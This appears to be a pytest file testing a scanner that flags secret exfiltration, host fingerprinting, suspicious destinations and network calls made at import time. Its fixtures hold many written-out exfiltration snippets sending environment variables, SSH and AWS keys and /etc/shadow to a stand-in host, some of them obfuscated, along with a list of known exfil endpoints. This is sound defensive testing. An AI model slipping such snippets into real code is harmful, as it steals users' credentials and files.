"""What leaves the machine, under any disguise; and what may."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import pytest

from pytest_selfmod_guard.model import Risk

if TYPE_CHECKING:
    from tests.rules.conftest import Ask

HEAD = "import os, socket, json, base64, requests\nfrom pathlib import Path\n"
URL = "'https://x.example.invalid/in'"

LEAKS = {
    "as it is": f"requests.post({URL}, data=os.environ)",
    "by a loop": "d = []\nfor k, v in os.environ.items():\n    d.append(k + v)"
    f"\nrequests.post({URL}, json=d)",
    "by a comprehension": f"requests.post({URL}, json=[v for v in os.environ.values()])",
    "by unpacking": f"requests.put({URL}, json={{**os.environ, 'a': 1}})",
    "encoded": f"requests.get({URL} + base64.b64encode(json.dumps(dict(os.environ)"
    ").encode()).decode())",
    "in a header": f"requests.get({URL}, headers={{'X': str(os.environ)}})",
    "through a method": "class A:\n    def a(self):\n        self.d = dict(os.environ)"
    f"\n    def b(self):\n        requests.post({URL}, json=self.d)",
    "through a result": f"def a():\n    return dict(os.environ)\nrequests.post({URL}, json=a())",
    "through a parameter": f"def a(d):\n    requests.post({URL}, json=d)\na(dict(os.environ))",
    "by a thread": f"import threading\ndef a(d):\n    requests.post({URL}, json=d)"
    "\nthreading.Thread(target=a, args=(dict(os.environ),)).start()",
    "by a keyword": (
        f"def a(n, d=None):\n    requests.post({URL}, json=d)\na(1, d=dict(os.environ))"
    ),
    "by with": f"with requests.Session() as s:\n    s.post({URL}, data=dict(os.environ))",
    "under other names": "from os import environ as e\nfrom requests import post as p\n"
    f"p({URL}, data=dict(e))",
    "by getattr": f"getattr(requests, 'po' + 'st')({URL}, data=dict(getattr(os, 'envi' + 'ron')))",
    "by a variable whose name is not known": (
        f"for n in os.environ:\n    requests.post({URL}, data=os.environ[n])"
    ),
    "by a command": "import subprocess\nsubprocess.run(['curl', '-d', str(os.environ)"
    ", 'https://x.example.invalid'])",
    "what a command says": f"requests.post({URL}, data=os.popen('env').read())",
    "a key by os.path": f"requests.post({URL}, data=open(os.path.join(os.path.expanduser('~')"
    ", '.ssh', 'id_rsa')).read())",
    "a key by pathlib": f"requests.post({URL}, data=(Path.home() / '.aws' / 'credentials')"
    ".read_text())",
    "a key by format": f"requests.post({URL}, data=open('%s/.ssh/id_%s' % (os.environ['HOME'],"
    " 'rsa')).read())",
    "a key by bytes": f"requests.post({URL}, data=open(b'/etc/shadow', 'rb').read())",
    "a key by its code": f"requests.post({URL}, data=open(bytes.fromhex('2f6574632f736861646f77')"
    ").read())",
    "a key from a list": f"for n in ['.ssh/id_rsa', '.netrc']:\n    requests.post({URL},"
    " data=open(Path.home() / n))",
    "a key in an archive": "import io, zipfile\nb = io.BytesIO()\nwith zipfile.ZipFile(b,"
    f" 'w') as z:\n    z.write('/etc/shadow')\nrequests.post({URL}, "
    "data=b.getvalue())",
    "a key by its path": "import boto3\nboto3.client('s3').upload_file('/root/.ssh/id_rsa',"
    " 'b', 'k')",
    "packed, then sent": "import tarfile, paramiko\ndef go(sftp: paramiko.SFTPClient):\n"
    "    with tarfile.open('/tmp/a', 'w') as t:\n        t.add('/root/.aws')"
    "\n    c = paramiko.SFTPClient.from_transport(1)\n    c.put('/tmp/a', 'a')",
    "by the socket": (
        "s = socket.socket()\ns.connect(('x.example.invalid', 80))\ns.sendall(repr(os.envir"
        "on).encode())"
    ),
    "by a host's name": "socket.gethostbyname(os.environ['API_TOKEN'] + '.x.example.invalid')",
    "to who did not issue it": (
        f"requests.post({URL}, json={{'k': os.getenv('AWS_SECRET_ACCESS_KEY')}})"
    ),
    "to a bare address": (
        "requests.post('http://198.51.100.9/', json={'k': os.getenv('SHOP_TOKEN')})"
    ),
    "what hangs below the home": f"for p in Path.home().rglob('*.docx'):\n    requests.post({URL},"
    " data=p.read_bytes())",
    "what Windows decrypts": (
        f"import win32crypt\nrequests.post({URL}, data=win32crypt.CryptUnprotectData(b'')[1])"
    ),
    "a cloud machine's keys": (
        "requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/a')"
    ),
}

HARMLESS = {
    "a token in a header": "requests.get('https://api.github.com', headers={'Authorization': "
    "os.environ['GITHUB_TOKEN']})",
    "a token as log-in": (
        "requests.get('https://api.example.com', auth=('a', os.environ['API_TOKEN']))"
    ),
    "a token to its issuer": (
        "requests.post('https://slack.com/api', data={'token': os.environ['SLACK_TOKEN']})"
    ),
    "a secret in a log-in form": "requests.post('https://a.example.com', data={'client_secret': "
    "os.environ['SHOP_CLIENT_SECRET']})",
    "one setting": "requests.post(os.environ['URL'], json={'mode': os.environ.get('MODE')})",
    "the environment for a child": (
        "import subprocess\nsubprocess.run(['curl', 'https://a.example.com'], env=dict(os.environ))"
    ),
    "a key to log in with": (
        "import paramiko\nparamiko.SSHClient().connect('h', key_filename=os.path.expanduser"
        "('~/.ssh/id_rsa'))"
    ),
    "only whether there is one": (
        "requests.post('https://a.example.com', json={'ci': 'CI' in os.environ,"
        " 'n': len(os.environ)})"
    ),
    "an own host's address": "socket.gethostbyname(socket.gethostname())",
    "a file of its own": "requests.post('https://a.example.com', data=open('data.json').read())",
    "a key that stays": "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nprint(len(key)"
    ")\nrequests.get('https://a.example.com')",
    "one of the same name elsewhere": (
        "def a():\n    d = dict(os.environ)\n    return len(d)\ndef b()"
        ":\n    d = {}\n    requests.post('https://a.example.com', json=d)"
    ),
    "a module is no bag": "print(requests.__name__, dict(os.environ))\njson.dumps(dict(os.environ)"
    ")\nrequests.post('https://a.example.com', data=json.dumps({}))",
}


@pytest.mark.parametrize("how", LEAKS)
def test_secrets_are_seen_to_leave(ask: Ask, how: str) -> None:
    """At a risk that denies."""
    found = ask("SMG220", {}, {"shop/tool.py": f"{HEAD}{LEAKS[how]}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) >= Risk.HIGH


@pytest.mark.parametrize("how", HARMLESS)
def test_what_may_leave_is_silent(ask: Ask, how: str) -> None:
    """No finding at all."""
    assert ask("SMG220", {}, {"shop/tool.py": f"{HEAD}{HARMLESS[how]}\n"}) == []


def test_a_sample_of_a_test_is_a_warning(ask: Ask) -> None:
    """While the whole environment is not, even there."""
    key = f"{HEAD}requests.post({URL}, data=open('/etc/shadow').read())\n"
    everything = f"{HEAD}requests.post({URL}, data=dict(os.environ))\n"
    assert ask("SMG220", {}, {"tests/test_a.py": key})[0].risk == Risk.MEDIUM
    assert ask("SMG220", {}, {"tests/test_a.py": everything})[0].risk == Risk.HIGH


@pytest.mark.parametrize(
    ("path", "code", "risk"),
    [
        (
            "shop/a.py",
            "def a():\n    requests.post(U, json={'h': socket.gethostname()})",
            Risk.MEDIUM,
        ),
        ("shop/a.py", "requests.post(U, json={'h': socket.gethostname()})", Risk.HIGH),
        (
            "shop/a.py",
            "def a():\n    requests.post('http://198.51.100.9', json=os.getlogin())",
            Risk.HIGH,
        ),
        (
            "shop/a.py",
            "def a():\n    requests.post(U, json=[os.getlogin(), os.getcwd()])",
            Risk.HIGH,
        ),
        ("shop/a.py", "def a():\n    os.system('curl ' + U + socket.gethostname())", Risk.HIGH),
        (
            "shop/a.py",
            "def a():\n    requests.post(U, data=os.popen('whoami; hostname').read())",
            Risk.HIGH,
        ),
        ("tests/test_a.py", "requests.post(U, json=[os.getlogin(), os.getcwd()])", Risk.MEDIUM),
        (
            "setup.py",
            "if __name__ == '__main__':\n    requests.post(U, json=os.getlogin())",
            Risk.HIGH,
        ),
    ],
)
def test_a_machine_is_told_on_more_or_less(ask: Ask, path: str, code: str, risk: Risk) -> None:
    """By how much is told, to whom and when."""
    found = ask("SMG221", {}, {path: f"{HEAD}U = {URL}\n{code}\n"})
    assert [item.risk for item in found] == [risk]


@pytest.mark.parametrize(
    "code",
    [
        "import platform\nrequests.post(U, json=platform.python_version())",
        (
            "import hashlib\nrequests.post(U, json=hashlib.sha256(socket.gethostname()"
            ".encode()).hexdigest())"
        ),
        "print(socket.gethostname())",
        "socket.gethostbyname(socket.gethostname())",
    ],
)
def test_a_machine_is_not_told_on(ask: Ask, code: str) -> None:
    """By what kind it is, by what cannot be turned back, or to itself."""
    assert ask("SMG221", {}, {"shop/a.py": f"{HEAD}U = {URL}\n{code}\n"}) == []


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ("http://a1.oast.live", Risk.HIGH),
        ("https://webhook.site/a", Risk.HIGH),
        ("https://a.ngrok-free.app", Risk.HIGH),
        ("https://eo6.m.pipedream.net", Risk.HIGH),
        ("http://expyuzz4wqqyqhjn5a7ycm3x2o7bsmbr.onion/a", Risk.HIGH),
        ("https://discord.com/api/webhooks/12345678/abcdefgh", Risk.HIGH),
        ("http://198.51.100.9:80/a", Risk.HIGH),
        ("https://user@[2001:db8::1]:80/a", Risk.HIGH),
        ("https://pastebin.com/raw/abc", Risk.MEDIUM),
        ("https://something.xyz/a", Risk.MEDIUM),
        ("https://api.example.com", Risk.NONE),
        ("http://127.0.0.1:8000", Risk.NONE),
        ("http://10.1.2.3/", Risk.NONE),
        ("http://192.168.0.7:80", Risk.NONE),
        ("https://webhook.sites.example.com", Risk.NONE),
    ],
)
def test_an_address_is_told_by_its_host(ask: Ask, text: str, risk: Risk) -> None:
    """Where it is talked to."""
    found = ask("SMG222", {}, {"shop/a.py": f"import requests\nrequests.get({text!r})\n"})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


def test_a_number_is_no_address_by_itself(ask: Ask) -> None:
    """A version has dots too."""
    code = (
        "import requests\nVERSION = '3.11.7.1'\nrequests.get('https://a.example.com',"
        " params=VERSION)\n"
    )
    assert ask("SMG222", {}, {"shop/a.py": code.replace(", params=VERSION", "")}) == []


@pytest.mark.parametrize(
    ("path", "code", "risk"),
    [
        ("shop/__init__.py", "requests.get(U)", Risk.HIGH),
        ("shop/a.py", "requests.get(U)", Risk.MEDIUM),
        ("shop/a.py", "def a():\n    requests.get(U)", Risk.NONE),
        ("shop/a.py", "def a():\n    requests.get(U)\ndef b():\n    a()\nb()", Risk.MEDIUM),
        ("shop/a.py", "class A:\n    x = requests.get(U)", Risk.MEDIUM),
        ("shop/a.py", "def a(x=requests.get(U)):\n    pass", Risk.MEDIUM),
        ("shop/a.py", "if __name__ == '__main__':\n    requests.get(U)", Risk.NONE),
        ("shop/__main__.py", "requests.get(U)", Risk.NONE),
        ("scripts/a.py", "requests.get(U)", Risk.NONE),
        ("tests/test_a.py", "requests.get(U)", Risk.NONE),
        (
            "shop/__init__.py",
            "import atexit\ndef a():\n    requests.get(U)\natexit.register(a)",
            Risk.HIGH,
        ),
    ],
)
def test_the_network_is_not_for_imports(ask: Ask, path: str, code: str, risk: Risk) -> None:
    """Neither directly nor by what is called meanwhile."""
    found = ask("SMG223", {}, {path: f"{HEAD}U = {URL}\n{code}\n"})
    assert max((item.risk for item in found), default=Risk.NONE) == risk


@pytest.mark.parametrize(
    "code",
    [
        "x = " + "+".join(["a"] * 900),
        "\n".join(f"v{n} = [v{n - 1}, v{n - 1}]" for n in range(1, 300)),
        "\n".join(f"def f{n}(a):\n    return f{n + 1}(a + a)" for n in range(120)),
        "x = " + "f(" * 60 + "os.environ" + ")" * 60,
        "\n".join(f"requests.post(x{n}, data=x{n + 1})\nx{n} = x{n + 1}" for n in range(300)),
    ],
)
def test_no_file_is_worth_much_time(ask: Ask, code: str) -> None:
    """Whatever it is made of."""
    start = time.process_time()
    ask("SMG220", {}, {"shop/a.py": f"{HEAD}{code}\n"})
    assert time.process_time() - start < 20


def test_a_circle_ends(ask: Ask) -> None:
    """Names that are made from one another."""
    code = (
        f"{HEAD}a = b\nb = a\ndef f(x):\n    return f(f(x))\nb = f(dict(os.environ)"
        f")\nrequests.post({URL}, data=a)\n"
    )
    assert ask("SMG220", {}, {"shop/a.py": code})


def test_a_second_leak_of_the_same_kind_is_new(ask: Ask) -> None:
    """And one that was there is not."""
    one = f"def a():\n    requests.post({URL}, data=dict(os.environ))\n"
    two = f"def b():\n    requests.post({URL}, data=dict(os.environ))\n"
    assert ask("SMG220", {"shop/a.py": HEAD + one}, {"shop/a.py": HEAD + "\n\n" + one}) == []
    assert len(ask("SMG220", {"shop/a.py": HEAD + one}, {"shop/a.py": HEAD + one + two})) == 1
